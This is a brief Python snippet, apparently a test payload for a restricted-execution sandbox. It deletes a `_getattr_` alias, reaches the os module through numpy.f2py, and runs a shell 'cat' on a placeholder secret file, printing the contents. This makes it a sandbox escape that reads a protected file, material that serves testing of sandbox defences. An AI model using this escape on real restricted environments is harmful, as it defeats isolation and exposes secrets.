"""What is deleted may fall back to what lies below."""
import numpy as np
module = [np][0]
_getattr_ = getattr
del _getattr_
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
